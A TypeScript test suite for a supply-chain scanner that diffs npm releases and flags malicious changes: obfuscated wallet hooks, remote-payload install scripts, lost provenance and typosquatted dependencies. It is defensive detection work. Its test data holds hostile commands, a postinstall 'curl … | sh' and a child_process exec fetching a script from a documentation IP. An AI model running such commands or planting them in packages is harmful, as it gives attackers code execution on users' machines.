import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { allRules } from '../analysis/index.js';
import { diffRelease } from './diff-release.js';
import { manifestText, sideFromFiles } from './test-support/side.js';
import type { DiffOptions, RegistryVersionInfo } from './types.js';

const NOW = new Date('2025-09-08T15:00:00Z');
const opts: DiffOptions = { rules: allRules, now: NOW };
const incidents = fileURLToPath(new URL('../analysis/fixtures/incidents/', import.meta.url));
/** Our inert imitation of chalk 5.6.1: chalk's code (lines 1-19) and the appended obfuscated interceptor (line 20). */
const chalkFixture = readFileSync(`${incidents}qix-chalk-debug-2025-09-08/index.js`, 'utf8');
const chalkClean = chalkFixture.split('\n').slice(0, 19).join('\n') + '\n';

const pkg = (version: string, extra: Record<string, unknown> = {}) => manifestText({ name: 'cw-demo', version, main: 'index.js', license: 'MIT', ...extra });

/** A small hand-written library, as in a release nobody tampered with. */
const utils = (greeting: string) => `'use strict';

function greet(name) {
  return \`${greeting}, \${name}!\`;
}

function shout(text) {
  return String(text).toUpperCase();
}

module.exports = { greet, shout };
`;

describe('diffRelease', () => {
  it('judges a benign patch release clean, with a small patch', async () => {
    const from = sideFromFiles('cw-demo', '1.0.0', { 'package.json': pkg('1.0.0'), 'index.js': utils('Hello'), 'README.md': '# demo\n' });
    const to = sideFromFiles('cw-demo', '1.0.1', { 'package.json': pkg('1.0.1'), 'index.js': utils('Hi'), 'README.md': '# demo\n' });
    const diff = await diffRelease(from, to, opts);
    expect(diff).toMatchObject({ name: 'cw-demo', from: '1.0.0', to: '1.0.1', verdict: 'clean', reasons: [], findings: [] });
    expect(diff.score).toBe(0);
    expect(diff.files).toEqual({ added: [], removed: [], changed: ['index.js', 'package.json'], renamed: [] });
    const index = diff.patches.find((p) => p.path === 'index.js')!;
    expect(index).toMatchObject({ status: 'changed', additions: 1, deletions: 1, binary: false });
    expect(index.text).toContain('-  return `Hello, ${name}!`;');
    expect(index.text).toContain('+  return `Hi, ${name}!`;');
    expect(index.text).toMatch(/^--- a\/index\.js\n\+\+\+ b\/index\.js\n@@ -1,7 \+1,7 @@/);
    expect(diff.patchSummary.truncated).toBe(false);
    expect(diff.patchSummary.bytes).toBeLessThan(1000);
  });
});

describe('diffRelease: code', () => {
  /** Loads and runs code it is given: an eval finding that both releases have. */
  const loader = (padding: number) => `${'// loader\n'.repeat(padding)}module.exports = function load(code) { return eval(code); };\n`;
  const chalkSide = (version: string, index: string, padding: number) =>
    sideFromFiles('chalk', version, { 'package.json': manifestText({ name: 'chalk', version, main: 'index.js' }), 'index.js': index, 'lib/loader.js': loader(padding) });

  it('judges a chalk-like release with an appended obfuscated wallet hook malicious, reporting only new findings', async () => {
    const diff = await diffRelease(chalkSide('5.6.0', chalkClean, 1), chalkSide('5.6.1', chalkFixture, 3), opts);
    expect(diff.verdict).toBe('malicious');
    expect(diff.score).toBeGreaterThanOrEqual(80);
    const rules = new Set(diff.findings.map((f) => f.rule));
    for (const rule of ['crypto-address-swap', 'wallet-transaction-rewrite', 'network-api-override', 'obfuscation-obfuscator-io']) expect(rules).toContain(rule);
    expect(diff.findings.every((f) => f.file === 'index.js' && f.line === 20)).toBe(true);
    expect(diff.reasons[0]).toMatch(/^new code: swaps crypto addresses \(crypto-address-swap, index\.js:20\)/);
    // lib/loader.js changed (its eval moved two lines down) but its finding is not new.
    expect(diff.files.changed).toContain('lib/loader.js');
    expect(diff.findings.some((f) => f.file === 'lib/loader.js')).toBe(false);
    // The package had no minified or obfuscated code before.
    expect(diff.code.newBlobs).toEqual([{ path: 'index.js', bytes: chalkFixture.length, longestLine: 7221, obfuscated: true }]);
    // The patch shows the appended line, cut to its start and end.
    const patch = diff.patches.find((p) => p.path === 'index.js')!.text!;
    const added = patch.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++'));
    expect(added).toHaveLength(1);
    expect(added[0]!.startsWith('+const _0x112fa8=_0x180f;')).toBe(true);
    expect(added[0]).toContain('…');
    expect(added[0]!.length).toBeLessThanOrEqual(303);
  });

  it('gives the old findings back when nothing new came in (the same release diffed with itself plus a comment)', async () => {
    const diff = await diffRelease(chalkSide('5.6.1', chalkFixture, 1), chalkSide('5.6.2', `// comment\n${chalkFixture}`, 1), opts);
    expect(diff.findings).toEqual([]);
    expect(diff.code.newBlobs).toEqual([]);
    expect(diff.verdict).toBe('clean');
  });

  it('reports a weak finding as new when its code was not in the old file', async () => {
    const from = sideFromFiles('cw-demo', '1.0.0', { 'lib/loader.js': loader(1) });
    const hook = 'const realFetch = window.fetch;\nwindow.fetch = function (input, init) { return realFetch(input, init); };\n';
    const to = sideFromFiles('cw-demo', '1.0.1', { 'lib/loader.js': `${loader(1)}${hook}` });
    const diff = await diffRelease(from, to, opts);
    expect(diff.findings.map((f) => [f.rule, f.file, f.line, f.confidence])).toEqual([['network-api-override', 'lib/loader.js', 4, 'low']]);
    expect(diff.verdict).toBe('clean'); // a fetch wrapper alone is a capability, not an attack
  });

  it('does not count a moved file as new code', async () => {
    const from = sideFromFiles('cw-demo', '1.0.0', { 'lib/loader.js': loader(1) });
    const to = sideFromFiles('cw-demo', '1.1.0', { 'src/loader.js': loader(1) });
    const diff = await diffRelease(from, to, opts);
    expect(diff.files.renamed).toEqual([{ from: 'lib/loader.js', to: 'src/loader.js' }]);
    expect(diff.findings).toEqual([]);
    expect(diff.patches.find((p) => p.path === 'src/loader.js')?.text).toBe('rename from lib/loader.js\nrename to src/loader.js\n');
    expect(diff.patches.some((p) => p.path === 'lib/loader.js')).toBe(false);
  });

  it('flags a new executable', async () => {
    const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    const from = sideFromFiles('cw-demo', '1.0.0', { 'index.js': 'module.exports = 1;\n' });
    const to = sideFromFiles('cw-demo', '1.0.1', { 'index.js': 'module.exports = 1;\n', 'bin/helper': elf });
    const diff = await diffRelease(from, to, opts);
    expect(diff.code.newExecutables).toEqual(['bin/helper']);
    expect(diff.verdict).toBe('suspicious');
    expect(diff.reasons).toContain('new executable: bin/helper');
    expect(diff.patches.find((p) => p.path === 'bin/helper')).toMatchObject({ binary: true, oldSize: null, newSize: 16, omitted: 'binary' });
  });
});

describe('diffRelease: install scripts', () => {
  const base = { 'index.js': 'module.exports = 1;\n' };
  const from = sideFromFiles('cw-demo', '1.0.0', { ...base, 'package.json': pkg('1.0.0') });

  it('judges a postinstall that downloads and runs a script malicious', async () => {
    const to = sideFromFiles('cw-demo', '1.0.1', { ...base, 'package.json': pkg('1.0.1', { scripts: { postinstall: 'curl -s http://198.51.100.7/setup.sh | sh' } }) });
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('malicious');
    expect(diff.metadata.installScripts).toEqual([{ hook: 'postinstall', change: 'added', to: 'curl -s http://198.51.100.7/setup.sh | sh' }]);
    expect(diff.reasons[0]).toBe('install script added: postinstall runs `curl -s http://198.51.100.7/setup.sh | sh`, flagged by install-script-remote-payload');
    expect(diff.findings.map((f) => [f.rule, f.file])).toContainEqual(['install-script-remote-payload', 'package.json']);
  });

  it('judges a preinstall that runs a dropper downloading and starting a binary malicious (ua-parser-js 0.7.29)', async () => {
    // Our inert imitation of the hijacked ua-parser-js: preinstall.js runs preinstall.sh (curl, chmod +x, run).
    const dir = `${incidents}ua-parser-js-2021-10-22/`;
    const dropper = Object.fromEntries(['preinstall.js', 'preinstall.sh', 'preinstall.bat'].map((f) => [f, readFileSync(dir + f, 'utf8')]));
    const to = sideFromFiles('cw-demo', '1.0.1', { ...base, ...dropper, 'package.json': pkg('1.0.1', { scripts: { preinstall: 'node preinstall.js' } }) });
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('malicious');
    expect(diff.signals[0]).toMatchObject({ id: 'install-script-flagged', level: 'malicious' });
    expect(diff.reasons[0]).toMatch(/^install script added: preinstall runs `node preinstall\.js`, flagged by /);
    expect(diff.files.added).toEqual(['preinstall.bat', 'preinstall.js', 'preinstall.sh']);
  });

  it('judges an added install script that the engine finds nothing in suspicious, not malicious', async () => {
    const to = sideFromFiles('cw-demo', '1.0.1', { ...base, 'build.js': "console.log('nothing to build');\n", 'package.json': pkg('1.0.1', { scripts: { install: 'node build.js' } }) });
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('suspicious');
    expect(diff.reasons).toEqual(['install script added: install runs `node build.js`']);
  });
});

describe('diffRelease: publication', () => {
  const alice = { name: 'alice', email: 'alice@example.test' };
  const provenance = { sourceRepository: 'https://git.example.test/cw/demo', workflow: '.github/workflows/release.yml' };
  const files = (version: string) => ({ 'package.json': pkg(version), 'index.js': utils('Hello') });
  const registry = (over: Partial<RegistryVersionInfo>): RegistryVersionInfo => ({ maintainers: [alice], publisher: alice, provenance, ...over });

  it('judges a release from a new publisher without the provenance its predecessor had suspicious', async () => {
    const evil = { name: 'evil', email: 'evil@example.invalid' };
    const from = sideFromFiles('cw-demo', '5.5.0', files('5.5.0'), registry({ publishedAt: '2025-08-01T10:00:00Z' }));
    const to = sideFromFiles('cw-demo', '5.5.1', files('5.5.1'), registry({ publishedAt: '2025-09-08T13:00:00Z', publisher: evil, maintainers: [alice, evil], provenance: null }));
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('suspicious');
    expect(diff.score).toBeGreaterThanOrEqual(40);
    expect(diff.score).toBeLessThan(80);
    expect(diff.reasons[0]).toBe('published by a new publisher (evil <evil@example.invalid>) without the provenance 5.5.0 had');
    expect(diff.reasons).not.toContain('published without the provenance 5.5.0 had');
    expect(diff.metadata.publisher).toEqual({ from: alice, to: evil, changed: true, knownMaintainer: false });
    expect(diff.metadata.provenance).toMatchObject({ lost: true, changed: false });
    expect(diff.metadata.maintainers).toEqual({ added: [evil], removed: [] });
  });

  it('keeps a release by a known maintainer with its provenance clean', async () => {
    const bob = { name: 'bob' };
    const from = sideFromFiles('cw-demo', '5.5.0', files('5.5.0'), registry({ maintainers: [alice, bob] }));
    const to = sideFromFiles('cw-demo', '5.5.1', files('5.5.1'), registry({ maintainers: [alice, bob], publisher: bob }));
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('clean');
    expect(diff.reasons).toEqual(['published by bob instead of alice (both maintainers)']);
  });

  it('judges provenance lost alone suspicious', async () => {
    const from = sideFromFiles('cw-demo', '5.5.0', files('5.5.0'), registry({}));
    const to = sideFromFiles('cw-demo', '5.5.1', files('5.5.1'), registry({ provenance: null }));
    const diff = await diffRelease(from, to, opts);
    expect(diff.verdict).toBe('suspicious');
    expect(diff.reasons).toEqual(['published without the provenance 5.5.0 had']);
  });
});

describe('diffRelease: dependencies', () => {
  const popularNames = ['chalk', 'cross-env', 'lodash', 'react'];
  const from = sideFromFiles('cw-demo', '2.0.0', { 'package.json': pkg('2.0.0', { dependencies: { chalk: '^5.0.0' } }) });
  const to = sideFromFiles('cw-demo', '2.0.1', { 'package.json': pkg('2.0.1', { dependencies: { chalk: '^5.0.0', lodahs: '^1.0.0' } }) });

  it('judges a release adding a one-day-old dependency with a typo-like name suspicious', async () => {
    const facts = new Map([['lodahs', { name: 'lodahs', exists: true, versions: 1, createdAt: '2025-09-07T15:00:00Z' }]]);
    const diff = await diffRelease(from, to, { ...opts, popularNames, dependencyFacts: facts });
    expect(diff.verdict).toBe('suspicious');
    expect(diff.metadata.dependencies.added).toEqual([
      { name: 'lodahs', spec: '^1.0.0', kind: 'dependencies', flags: ['young', 'few-versions', 'typo-like'], typoOf: 'lodash', ageDays: 1, facts: facts.get('lodahs') },
    ]);
    expect(diff.reasons).toContain('new dependency lodahs is 1 day old and one typo from lodash');
  });

  it('leaves a typo-like name alone below suspicious when nothing says the package is new', async () => {
    const facts = new Map([['lodahs', { name: 'lodahs', exists: true, versions: 40, createdAt: '2019-01-01T00:00:00Z' }]]);
    const diff = await diffRelease(from, to, { ...opts, popularNames, dependencyFacts: facts });
    expect(diff.verdict).toBe('clean');
    expect(diff.metadata.dependencies.added[0]!.flags).toEqual(['typo-like']);
    expect(diff.reasons).toEqual(['new dependency lodahs is one typo from lodash']);
  });

  it('judges a dependency that does not exist suspicious', async () => {
    const facts = new Map([['lodahs', { name: 'lodahs', exists: false }]]);
    const diff = await diffRelease(from, to, { ...opts, dependencyFacts: facts });
    expect(diff.verdict).toBe('suspicious');
    expect(diff.reasons).toEqual(['new dependency lodahs does not exist on the registry']);
  });
});

describe('diffRelease: patches', () => {
  /** A minified bundle: one long line of dense code. */
  const bundle = (name: string) =>
    `!function(){${Array.from({ length: 120 }, (_, i) => `var a${i}=function(b){return b*${i}+1};`).join('')}window.${name}=function(){return a7(3)};${Array.from({ length: 120 }, (_, i) => `var c${i}=${i};`).join('')}}();\n`;

  it('cuts long lines to a window around the change', async () => {
    const from = sideFromFiles('cw-demo', '1.0.0', { 'dist/app.min.js': bundle('startApp') });
    const to = sideFromFiles('cw-demo', '1.0.1', { 'dist/app.min.js': bundle('launchApp') });
    const diff = await diffRelease(from, to, opts);
    const lines = diff.patches.find((p) => p.path === 'dist/app.min.js')!.text!.split('\n');
    const removed = lines.find((l) => l.startsWith('-') && !l.startsWith('---'))!;
    const added = lines.find((l) => l.startsWith('+') && !l.startsWith('+++'))!;
    expect(bundle('x').length).toBeGreaterThan(4000);
    expect(removed).toMatch(/^-….*window\.startApp=function\(\)\{return a7\(3\)\}.*…$/);
    expect(added).toMatch(/^\+….*window\.launchApp=function\(\)\{return a7\(3\)\}.*…$/);
    expect(removed.length).toBeLessThan(200);
    expect(added.length).toBeLessThan(200);
  });

  it('reports binary files by size without diffing them', async () => {
    const png = (n: number) => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, ...new Array<number>(n).fill(7)]);
    const from = sideFromFiles('cw-demo', '1.0.0', { 'assets/logo.png': png(100) });
    const to = sideFromFiles('cw-demo', '1.0.1', { 'assets/logo.png': png(2000) });
    const diff = await diffRelease(from, to, opts);
    expect(diff.patches.find((p) => p.path === 'assets/logo.png')).toEqual({
      path: 'assets/logo.png', status: 'changed', binary: true, oldSize: 112, newSize: 2012, additions: null, deletions: null, omitted: 'binary',
    });
  });

  it('shows removed files as all-removed patches', async () => {
    const from = sideFromFiles('cw-demo', '1.0.0', { 'index.js': 'module.exports = 1;\n', 'lib/legacy.js': 'exports.old = true;\nexports.older = true;\n' });
    const to = sideFromFiles('cw-demo', '2.0.0', { 'index.js': 'module.exports = 1;\n' });
    const diff = await diffRelease(from, to, opts);
    expect(diff.files.removed).toEqual(['lib/legacy.js']);
    expect(diff.patches.find((p) => p.path === 'lib/legacy.js')).toMatchObject({
      status: 'removed', additions: 0, deletions: 2, oldSize: 42, newSize: null,
      text: '--- a/lib/legacy.js\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-exports.old = true;\n-exports.older = true;\n',
    });
  });

  it('stays within the patch budget, spends it first on files with new findings, and says what it left out', async () => {
    const body = (tag: string) => Array.from({ length: 60 }, (_, i) => `exports.v${i} = '${tag}-${i}';`).join('\n') + '\n';
    const many = (tag: string) => Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`lib/m${String(i).padStart(2, '0')}.js`, body(tag)]));
    const from = sideFromFiles('cw-demo', '1.0.0', { ...many('a'), 'zz.js': 'module.exports = 1;\n' });
    const to = sideFromFiles('cw-demo', '1.0.1', { ...many('b'), 'zz.js': "module.exports = 1;\nrequire('child_process').exec('curl -s http://198.51.100.7/x | sh');\n" });
    const diff = await diffRelease(from, to, { ...opts, maxPatchBytes: 8 * 1024 });
    expect(diff.findings.some((f) => f.file === 'zz.js')).toBe(true);
    expect(diff.patches.find((p) => p.path === 'zz.js')!.text).toContain("+require('child_process')");
    expect(diff.patchSummary.truncated).toBe(true);
    expect(diff.patchSummary.omittedFiles).toBeGreaterThan(20);
    expect(diff.patchSummary.bytes).toBeLessThanOrEqual(8 * 1024 + 200);
    const omitted = diff.patches.filter((p) => p.omitted === 'budget');
    expect(omitted).toHaveLength(diff.patchSummary.omittedFiles);
    expect(omitted.every((p) => p.text === undefined && p.additions === null)).toBe(true);
    expect(diff.patches.map((p) => p.path)).toEqual([...diff.files.changed].sort());
  });

  it('cuts one huge added file to its share of the budget', async () => {
    const big = Array.from({ length: 20000 }, (_, i) => `exports.v${i} = ${i};`).join('\n') + '\n';
    const from = sideFromFiles('cw-demo', '1.0.0', { 'index.js': 'module.exports = 1;\n' });
    const to = sideFromFiles('cw-demo', '1.0.1', { 'index.js': 'module.exports = 1;\n', 'lib/table.js': big });
    const diff = await diffRelease(from, to, opts);
    const patch = diff.patches.find((p) => p.path === 'lib/table.js')!;
    expect(patch).toMatchObject({ status: 'added', additions: 20000, deletions: 0, omitted: 'cut' });
    expect(Buffer.byteLength(patch.text!)).toBeLessThanOrEqual(64 * 1024 + 100);
    expect(patch.text).toMatch(/\n… \d+ more lines of this patch not shown \(patch size limit\)\n$/);
    expect(diff.patchSummary.truncated).toBe(true);
  });
});
